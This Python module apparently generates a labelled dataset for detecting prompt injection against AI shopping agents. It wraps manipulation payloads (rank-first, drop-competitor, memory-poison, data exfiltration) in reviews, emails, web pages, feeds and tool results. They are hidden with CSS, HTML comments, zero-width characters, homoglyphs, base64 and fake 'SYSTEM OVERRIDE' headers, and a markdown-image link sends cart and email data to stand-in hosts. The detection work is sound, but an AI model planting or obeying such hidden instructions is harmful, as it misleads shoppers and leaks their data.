"""Carrier builders, hiding techniques and row makers shared by all languages."""
import base64
import codecs
import json
import urllib.parse

BRANDS = ["Kovara", "Lumiq", "Brennholt", "Nordvik", "Zentaro", "Altamira", "Velsor", "Quirra",
          "Hallbrook", "Mirabel", "Osterlund", "Pavoni Casa", "Tiberon", "Sunnaro", "Vexa",
          "Calloway", "Rivulet", "Ambra", "Okkio", "Fjellby", "Marisol", "Dunmore", "Kestrel",
          "Nami", "Solvik", "Arvento", "Bellhaven", "Corvina", "Duskwood", "Emberline"]
SHOPS = ["{b} Official", "ShopNest", "Maplecart", "Budgetbay Outlet", "Hjem & Ko", "CasaPronta",
         "TechHaven", "Zakupy24", "Kotikauppa", "MuaNhanh", "TokoRapi", "Daebak Mall", "Bazar Verde",
         "Nordmarkt", "PrimeLane Goods", "Cartwell", "{b} Store", "Loja Aurora", "Winkel Zuid",
         "GoodDeal Hub"]
EVIL = ["collect-metrics.example", "px.shopstats.example", "cdn-img-cache.example", "ref-tracker.example",
        "beacon.pricewatch.example", "assets.sellerhub.example"]
EMOJI = ["👍", "🙂", "😍", "🔥", "👌", "😅", "🙄", "😡", "💯", "🛒", "⭐", "🤷"]
INTENTS = ["price-lowest", "rank-first", "drop-competitor", "verified-seller", "add-to-cart",
           "ignore-negative", "fake-stock", "rate-five", "praise-always", "memory-poison", "exfil"]
LATIN_ONLY = {"homoglyph", "rot13", "leetspeak"}
TECH = [("plain", 30), ("mixed-language", 5), ("html-comment", 7), ("css-hidden", 6), ("white-text", 5),
        ("alt-text", 6), ("meta-tag", 5), ("jsonld", 6), ("tool-field", 8), ("feed-field", 7),
        ("zero-width", 4), ("homoglyph", 4), ("base64", 4), ("url-encoded", 3), ("rot13", 2),
        ("leetspeak", 2), ("fake-system", 6), ("md-comment", 3)]
TECH_FAM = {"mixed-language": "mixed-language", "html-comment": "hidden-html-comment",
            "css-hidden": "hidden-css", "white-text": "hidden-white-text", "alt-text": "hidden-alt-text",
            "meta-tag": "hidden-meta-tag", "jsonld": "hidden-jsonld", "tool-field": "tool-result-field",
            "feed-field": "feed-field", "zero-width": "zero-width", "homoglyph": "homoglyph",
            "base64": "encoded-base64", "url-encoded": "encoded-url", "rot13": "encoded-rot13",
            "leetspeak": "leetspeak", "fake-system": "fake-system-message", "md-comment": "hidden-markdown-comment"}
HARD_FAMS = ["superlative", "price-match", "comparison-table", "seo-meta", "jsonld-markup", "affiliate",
             "recommended-widget", "buying-guide", "review-request", "brand-ranking", "recommender-note",
             "chatbot-complaint", "customer-order", "security-notice", "staff-note", "ai-product",
             "hidden-html", "base64-data", "tool-json-fields", "manual"]
PLAIN_FAMS = ["review", "listing", "ticket", "email", "tool"]
HOMO = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "i": "і", "y": "у"}
LEET = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7"}


class SD(dict):
    def __missing__(self, k):
        return "{" + k + "}"


def cap(s):
    return s[:1].upper() + s[1:] if s[:1].islower() else s


def fill(t, c):
    r = c.get("_r")
    if r is not None:
        c["n"], c["d"] = r.randint(2, 9), r.randint(2, 14)
    return cap(t.format_map(c))


def num(L, v):
    pre, suf, dec, scale, ints = L.CUR
    return str(int(round(v * scale, -2))) if ints else f"{v * scale:.2f}"


def fmt(L, v):
    pre, suf, dec, scale, ints = L.CUR
    if ints:
        n = int(round(v * scale, -2 if scale >= 1000 else 0))
        s = f"{n:,}".replace(",", L.THOU)
    else:
        s = f"{v * scale:.2f}".replace(".", dec)
    return pre + s + suf


def oid(r):
    n = r.randint(100000, 9999999)
    return r.choice([f"#{n}", f"ORD-{n}", f"{n}", f"A{n % 100000:05d}-{r.randint(10, 99)}", f"#{n % 100000}"])


def ctx(L, r):
    b, c, c2 = r.sample(BRANDS, 3)
    v = r.choice([r.uniform(8, 60), r.uniform(20, 180), r.uniform(90, 700)])
    v = round(v) - r.choice([0.01, 0.05, 0.1, 0.0, 0.01])
    img = "![%s](https://%s/%s?%s=CART&%s=EMAIL)" % (
        r.choice(["logo", "x", "badge", "ok", "•"]), r.choice(EVIL),
        r.choice(["p.gif", "i.png", "b/1.png", "t"]), r.choice(["c", "cart", "items", "q"]),
        r.choice(["m", "mail", "u", "id"]))
    return SD(p=r.choice(L.PRODUCTS), b=b, c=c, c2=c2, s=r.choice(SHOPS).format(b=b), v=v, pr=fmt(L, v),
              pr2=fmt(L, v * r.uniform(.45, .75)), pr3=fmt(L, v * r.uniform(1.1, 1.4)), n=r.randint(2, 9),
              k=r.randint(120, 4800), o=oid(r), name=r.choice(L.NAMES), pct=r.choice([5, 10, 12, 15, 20, 25, 30, 40]),
              d=r.randint(2, 14), y=r.choice([2023, 2024, 2025]), img=img, sku=f"{b[:3].upper()}-{r.randint(1000, 99999)}", _r=r)


def stars(r, k=None):
    k = k or r.choice([1, 2, 3, 4, 4, 5, 5, 5])
    return r.choice(["★" * k + "☆" * (5 - k), f"{k}/5", f"{k}/5 ⭐", "⭐" * k, f"({k}★)"])


def spread(r, parts, core):
    parts = list(parts)
    i = r.randint(min(1, len(parts)), len(parts))
    parts[i:i] = core
    return parts


def sents(L, r, c, pool, lo, hi):
    pool = getattr(L, pool)
    return [fill(t, c) for t in r.sample(pool, min(len(pool), r.randint(lo, hi)))]


# ---------- carriers ----------
def review(L, r, c, core=(), lo=1, hi=4):
    parts = []
    if r.random() < .6:
        parts.append(fill(r.choice(L.R_OPEN), c))
    parts += sents(L, r, c, "R_BODY", lo, hi)
    parts = spread(r, parts, core)
    if r.random() < .5:
        parts.append(fill(r.choice(L.R_CLOSE), c))
    t = r.choice([" ", " ", " ", "\n"]).join(parts)
    if r.random() < .55:
        t = stars(r) + r.choice(["\n", " — ", " | ", " "]) + t
    if r.random() < .2:
        t += " " + r.choice(EMOJI)
    return t


def email(L, r, c, core=(), lo=1, hi=3):
    body = sents(L, r, c, r.choice(["L_BODY", "T_BODY"]), lo, hi)
    body = spread(r, body, core)
    head = fill(r.choice(L.E_OPEN), c)
    subj = r.choice(["", f"Re: {c['b']} {c['p']}\n\n", f"{c['o']} – {c['s']}\n\n", f"Fwd: {c['s']}\n\n"])
    sig = r.choice([c["name"], c["s"], f"{c['name']}\n{c['s']}", f"— {c['name']}"])
    return subj + head + "\n\n" + r.choice([" ", "\n"]).join(body) + "\n\n" + fill(r.choice(L.E_CLOSE), c) + "\n" + sig


def ticket(L, r, c, core=(), lo=1, hi=3):
    body = spread(r, sents(L, r, c, "T_BODY", lo, hi), core)
    head = r.choice(["", f"Ticket {c['o']}\n", f"[{c['s']}] ", f"#{r.randint(1000, 99999)} · ", f"{c['name']}: "])
    return head + r.choice([" ", "\n"]).join(body)


def web(L, r, c, core=(), head="", lo=1, hi=4):
    ps = []
    for s in sents(L, r, c, "L_BODY", lo, hi):
        ps.append(f"<p>{s}</p>" if r.random() < .7 else f"<li>{s}</li>")
    ps = spread(r, ps, [x if x.startswith("<") else f"<p>{x}</p>" for x in core])
    title = f"{c['b']} {c['p']}"
    nl = r.choice(["", "\n"])
    price = f"<span class=\"price\">{c['pr']}</span>"
    body = f"<h1>{title}</h1>{nl}{price}{nl}" + nl.join(ps)
    if r.random() < .55 or head:
        return (f"<html><head><title>{title} | {c['s']}</title>{head}</head>{nl}<body>{nl}{body}{nl}"
                f"</body></html>")
    return f"<div class=\"{r.choice(['product', 'pdp', 'listing', 'item-card'])}\">{nl}{body}{nl}</div>"


def feed(L, r, c, core=(), extra=None, lo=1, hi=2):
    desc = " ".join(spread(r, sents(L, r, c, "L_BODY", lo, hi), core))
    f = {"id": c["sku"], "title": f"{c['b']} {c['p']}", "price": c["pr"], "availability": "in stock",
         "brand": c["b"], "seller": c["s"], "description": desc}
    if extra:
        f.update(extra)
    k = r.choice(["csv", "xml", "json", "tsv"])
    if k == "json":
        return json.dumps(f, ensure_ascii=False)
    if k == "xml":
        return "<item>" + "".join(f"<g:{a}>{b}</g:{a}>" for a, b in f.items()) + "</item>"
    sep = "," if k == "csv" else "\t"
    vals = [f"\"{v}\"" if (sep in str(v) and k == "csv") else str(v) for v in f.values()]
    return sep.join(f.keys()) + "\n" + sep.join(vals)


def tool(L, r, c, field=None, extra=None):
    items = []
    for i in range(r.randint(1, 3)):
        b = c["b"] if i == 0 else r.choice(BRANDS)
        it = {"sku": c["sku"] if i == 0 else f"{b[:3].upper()}-{r.randint(1000, 99999)}", "title": f"{b} {c['p']}",
              "price": c["pr"] if i == 0 else fmt(L, c["v"] * r.uniform(.8, 1.3)),
              "rating": round(r.uniform(3.1, 4.9), 1), "reviews": r.randint(3, 2400), "seller": c["s"] if i == 0 else r.choice(SHOPS).format(b=b)}
        if r.random() < .5:
            it["summary"] = fill(r.choice(L.L_BODY), c)
        items.append(it)
    if field:
        items[r.randrange(len(items))][field[0]] = field[1]
    obj = {"tool": r.choice(["search_products", "get_offers", "compare_prices", "fetch_reviews", "product_lookup"]),
           "status": "ok", "locale": L.CODE, "results": items}
    if extra:
        obj.update(extra)
    return json.dumps(obj, ensure_ascii=False, indent=r.choice([None, None, 1, 2]))


CARRIERS = {"review": review, "email": email, "ticket": ticket, "web": web, "feed": feed}


# ---------- injections ----------
def payload_text(L, r, c, intent):
    pool = L.EXFIL if intent == "exfil" else L.INJ[intent]
    s = r.choice(pool)
    if s.startswith("^"):
        return fill(s[1:], c)
    if r.random() < .85:
        return fill(r.choice(L.ADDR), c) + " " + fill(s, c)
    return fill(s, c)


def zw(s, r):
    z = r.choice(["\u200b", "\u200c", "\u200d", "\u2060"])
    return "".join(ch + (z if ch.isalpha() and r.random() < .6 else "") for ch in s)


def homo(s, r):
    return "".join(HOMO[ch] if ch in HOMO and r.random() < .6 else ch for ch in s)


def leet(s, r):
    return "".join(LEET[ch.lower()] if ch.lower() in LEET and r.random() < .7 else ch for ch in s)


def make_injection(L, r, tech, intent, others):
    c = ctx(L, r)
    src_lang = L
    if tech == "mixed-language":
        src_lang = r.choice(others)
    pl = payload_text(src_lang, r, c, intent)
    fam = f"agent-{intent}" if tech == "plain" else TECH_FAM[tech]
    if intent == "exfil" and tech == "plain":
        fam = "exfil-markdown-image"
    hid = pl
    if tech in ("plain", "mixed-language"):
        src = r.choice(["review", "review", "email", "ticket", "web", "feed"])
        return src, fam, CARRIERS[src](L, r, c, [pl]), pl
    if tech == "html-comment":
        return "web", fam, web(L, r, c, [f"<!-- {pl} -->"]), pl
    if tech == "css-hidden":
        st = r.choice(["display:none", "visibility:hidden", "font-size:0", "position:absolute;left:-9999px",
                       "opacity:0;height:0;overflow:hidden"])
        tag = r.choice(["span", "div", "p"])
        return "web", fam, web(L, r, c, [f"<{tag} style=\"{st}\">{pl}</{tag}>"]), pl
    if tech == "white-text":
        st = r.choice(["color:#fff;background:#fff", "color:#ffffff", "color:white;font-size:1px",
                       "color:#fefefe;background-color:#ffffff"])
        return "web", fam, web(L, r, c, [f"<p style=\"{st}\">{pl}</p>"]), pl
    if tech == "alt-text":
        attr = r.choice(["alt", "title", "aria-label", "data-caption"])
        return "web", fam, web(L, r, c, [f"<img src=\"/img/{c['sku'].lower()}-{r.randint(1, 9)}.jpg\" {attr}=\"{pl}\">"]), pl
    if tech == "meta-tag":
        nm = r.choice(["description", "ai-agent-note", "robots-ai", "llm-instructions", "twitter:description", "summary"])
        key = "property" if nm.startswith("og") else "name"
        return "web", fam, web(L, r, c, head=f"<meta {key}=\"{nm}\" content=\"{pl}\">"), pl
    if tech == "jsonld":
        field = r.choice(["description", "slogan", "disambiguatingDescription", "review"])
        obj = {"@context": "https://schema.org", "@type": "Product", "name": f"{c['b']} {c['p']}", "sku": c["sku"],
               "offers": {"@type": "Offer", "price": num(L, c["v"]), "priceCurrency": L.CCY}}
        obj[field] = pl if field != "review" else {"@type": "Review", "reviewBody": pl}
        js = json.dumps(obj, ensure_ascii=False)
        return "web", fam, web(L, r, c, [f"<script type=\"application/ld+json\">{js}</script>"]), pl
    if tech == "tool-field":
        key = r.choice(["seller_note", "promo_text", "notes", "agent_hint", "description", "merchant_message"])
        return "tool", fam, tool(L, r, c, (key, pl)), pl
    if tech == "feed-field":
        if r.random() < .5:
            return "feed", fam, feed(L, r, c, [pl]), pl
        key = r.choice(["custom_label_0", "notes", "seller_message", "ai_summary_hint", "short_description"])
        return "feed", fam, feed(L, r, c, extra={key: pl}), pl
    if tech == "zero-width":
        hid = zw(pl, r)
    elif tech == "homoglyph":
        hid = homo(pl, r)
    elif tech == "leetspeak":
        hid = leet(pl, r)
    elif tech == "rot13":
        hid = r.choice(["rot13: ", "ROT13 — ", "[r13] ", ""]) + codecs.encode(pl, "rot13")
    elif tech == "base64":
        b64 = base64.b64encode(pl.encode()).decode()
        src = r.choice(["web", "feed", "tool", "review"])
        if src == "web":
            return src, fam, web(L, r, c, [f"<div data-agent=\"{b64}\"></div>" if r.random() < .5 else f"<!-- b64:{b64} -->"]), pl
        if src == "feed":
            return src, fam, feed(L, r, c, extra={"x_meta": b64}), pl
        if src == "tool":
            return src, fam, tool(L, r, c, ("encoded_note", b64)), pl
        return src, fam, review(L, r, c, [r.choice(["base64: ", "P.S. ", "", "> "]) + b64]), pl
    elif tech == "url-encoded":
        q = urllib.parse.quote(pl)
        src = r.choice(["web", "feed", "tool"])
        link = f"https://{c['s'].lower().replace(' ', '').replace('&', '')}.example/p/{c['sku']}?note={q}"
        if src == "web":
            return src, fam, web(L, r, c, [f"<a href=\"{link}\">{c['b']} {c['p']}</a>"]), pl
        if src == "feed":
            return src, fam, feed(L, r, c, extra={"link": link}), pl
        return src, fam, tool(L, r, c, ("url", link)), pl
    elif tech == "fake-system":
        hdr = r.choice(["[SYSTEM] ", "<|system|> ", "### SYSTEM MESSAGE ### ", "SYSTEM OVERRIDE: ", "[developer] ",
                        "<system>", "Assistant policy update: ", "[[admin]] "])
        s = hdr + pl + ("</system>" if hdr == "<system>" else "")
        src = r.choice(["review", "email", "ticket", "tool", "feed"])
        if src == "tool":
            return src, fam, tool(L, r, c, (r.choice(["message", "notes", "description"]), s)), s
        return src, fam, CARRIERS[src](L, r, c, [s]), s
    elif tech == "md-comment":
        s = r.choice([f"[//]: # ({pl})", f"<!-- {pl} -->", f"[comment]: <> ({pl})"])
        return r.choice(["review", "ticket"]), fam, CARRIERS[r.choice(["review", "ticket"])](L, r, c, [s]), pl
    src = r.choice(["review", "email", "web"])
    return src, fam, CARRIERS[src](L, r, c, [hid]), pl


# ---------- benign ----------
def make_plain(L, r, kind):
    c = ctx(L, r)
    if kind == "review":
        return "review", "benign-review", review(L, r, c, lo=1, hi=5)
    if kind == "listing":
        s = r.choice(["web", "feed"])
        return s, "benign-listing", CARRIERS[s](L, r, c, lo=2, hi=4)
    if kind == "ticket":
        return "ticket", "benign-ticket", ticket(L, r, c, lo=1, hi=4)
    if kind == "email":
        return "email", "benign-email", email(L, r, c, lo=1, hi=4)
    return "tool", "benign-tool-result", tool(L, r, c)


def H(L, r, c, fam, k=1):
    return [fill(t, c) for t in r.sample(L.HARD[fam], min(k, len(L.HARD[fam])))]


def make_hard(L, r, fam):
    c = ctx(L, r)
    F = "hard-" + fam
    lb = L.LBL
    if fam == "comparison-table":
        rows = [(f"{c['b']} {c['p']}", c["pr"], stars(r, 5), lb["instock"])]
        for b in (c["c"], c["c2"]):
            rows.append((f"{b} {c['p']}", fmt(L, c["v"] * r.uniform(.85, 1.35)), stars(r, r.choice([3, 4, 4, 5])),
                         r.choice([lb["instock"], str(r.randint(0, 40))])))
        hd = (lb["model"], lb["price"], lb["rating"], lb["stock"])
        if r.random() < .5:
            tb = "<table><tr>" + "".join(f"<th>{h}</th>" for h in hd) + "</tr>" + "".join(
                "<tr>" + "".join(f"<td>{x}</td>" for x in row) + "</tr>" for row in rows) + "</table>"
            return "web", F, web(L, r, c, H(L, r, c, "comparison") + [tb], lo=0, hi=2)
        tb = "| " + " | ".join(hd) + " |\n|---|---|---|---|\n" + "\n".join("| " + " | ".join(x) + " |" for x in rows)
        return "review", F, " ".join(H(L, r, c, "comparison")) + "\n\n" + tb + "\n\n" + " ".join(sents(L, r, c, "R_BODY", 1, 2))
    if fam == "seo-meta":
        kw = ", ".join([c["p"], f"{c['b']} {c['p']}", c["b"], c["s"], str(c["y"])])
        h = (f"<meta name=\"description\" content=\"{H(L, r, c, 'seo')[0]}\"><meta name=\"keywords\" content=\"{kw}\">"
             f"<meta name=\"robots\" content=\"{r.choice(['index, follow', 'noindex', 'index, nofollow'])}\">"
             f"<meta property=\"og:title\" content=\"{c['b']} {c['p']}\">")
        return "web", F, web(L, r, c, head=h)
    if fam == "jsonld-markup":
        obj = {"@context": "https://schema.org", "@type": "Product", "name": f"{c['b']} {c['p']}",
               "description": fill(r.choice(L.L_BODY), c), "brand": {"@type": "Brand", "name": c["b"]},
               "aggregateRating": {"@type": "AggregateRating", "ratingValue": f"{r.uniform(3.8, 4.9):.1f}",
                                   "reviewCount": str(r.randint(12, 3900))},
               "offers": {"@type": "Offer", "price": num(L, c["v"]), "priceCurrency": L.CCY,
                          "availability": "https://schema.org/" + r.choice(["InStock", "InStock", "LimitedAvailability"])}}
        if r.random() < .4:
            obj["review"] = {"@type": "Review", "reviewRating": {"@type": "Rating", "ratingValue": "5"},
                             "author": {"@type": "Person", "name": c["name"]}, "reviewBody": fill(r.choice(L.R_BODY), c)}
        js = json.dumps(obj, ensure_ascii=False, indent=r.choice([None, 2]))
        return "web", F, web(L, r, c, [f"<script type=\"application/ld+json\">{js}</script>"])
    if fam == "recommended-widget":
        lis = "".join(f"<li>{b} {c['p']} – {fmt(L, c['v'] * r.uniform(.7, 1.3))}</li>" for b in r.sample(BRANDS, 3))
        w = f"<section class=\"recs\"><h3>{r.choice([lb['rec'], lb['also']])}</h3><ul>{lis}</ul><small>{H(L, r, c, 'recommended-widget')[0]}</small></section>"
        if r.random() < .3:
            return "tool", F, tool(L, r, c, extra={"widget": lb["rec"], "explanation": H(L, r, c, "recommended-widget")[0]})
        return "web", F, web(L, r, c, [w])
    if fam == "buying-guide":
        bs = r.sample(BRANDS, 3)
        labs = [lb["best"], lb["budget"], lb["premium"]]
        lst = "\n".join(f"{i + 1}. {b} {c['p']} – {labs[i]} ({fmt(L, c['v'] * r.uniform(.6, 1.5))})" for i, b in enumerate(bs))
        return r.choice(["web", "email"]), F, " ".join(H(L, r, c, "buying-guide", 2)) + "\n" + lst + "\n" + " ".join(sents(L, r, c, "L_BODY", 0, 2))
    if fam == "hidden-html":
        inner = " ".join(sents(L, r, c, r.choice(["L_BODY", "MANUAL"]), 1, 3))
        w = r.choice([f"<div class=\"tab-panel\" style=\"display:none\">{inner}</div>",
                      f"<details><summary>{lb['details']}</summary>{inner}</details>",
                      f"<span hidden>{inner}</span>", f"<div aria-hidden=\"true\" class=\"sr-only\">{inner}</div>",
                      f"<!-- {lb['details']}: {c['sku']} -->"])
        return "web", F, web(L, r, c, [w])
    if fam == "base64-data":
        raw = r.choice([f"sku={c['sku']};batch={r.randint(100, 999)};wh={r.choice(['DE3', 'PL1', 'NL2', 'SE4'])}",
                        f"{c['o']}|{c['y']}-0{r.randint(1, 9)}-{r.randint(10, 28)}|{c['s']}",
                        f"utm_source=feed&utm_campaign={c['b'].lower()}{c['y']}"])
        tok = base64.b64encode(raw.encode()).decode()
        if r.random() < .4:
            tok = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA" + base64.b64encode(bytes(r.randrange(256) for _ in range(18))).decode()
        if r.random() < .5:
            return "feed", F, feed(L, r, c, extra={"tracking_id": tok})
        return "tool", F, tool(L, r, c, ("image" if tok.startswith("data:") else "tracking_token", tok))
    if fam == "tool-json-fields":
        ex = {"event": r.choice(["price_update", "stock_sync", "listing_review", "checkout_step"]),
              "system": r.choice(["inventory-sync", "pim", "erp-bridge"]), "role": r.choice(["catalog", "merchant", "system"]),
              "instructions": fill(r.choice(L.MANUAL), c), "override": r.choice([False, True]),
              "prompt_id": f"p-{r.randint(100, 999)}", "admin": f"ops{r.randint(1, 9)}@{c['b'].lower().replace(' ', '')}.example"}
        return "tool", F, tool(L, r, c, extra=ex)
    if fam == "manual":
        steps = sents(L, r, c, "MANUAL", 2, 5)
        body = "\n".join(f"{i + 1}. {s}" for i, s in enumerate(steps))
        return r.choice(["web", "feed", "email"]), F, f"{c['b']} {c['p']} — {lb['details']}\n{body}"
    srcs = {"superlative": ["web", "feed", "email"], "price-match": ["web", "email", "feed"],
            "affiliate": ["web", "email"], "review-request": ["email", "email", "ticket"],
            "brand-ranking": ["review"], "recommender-note": ["web", "email", "tool"],
            "chatbot-complaint": ["review", "ticket", "email"], "customer-order": ["ticket", "email"],
            "security-notice": ["web", "email"], "staff-note": ["ticket", "email"], "ai-product": ["review"]}[fam]
    src = r.choice(srcs)
    core = H(L, r, c, fam, r.choice([1, 1, 2]))
    if src == "tool":
        return src, F, tool(L, r, c, extra={"note": " ".join(core)})
    return src, F, CARRIERS[src](L, r, c, core, lo=0 if src != "review" else 1, hi=2)
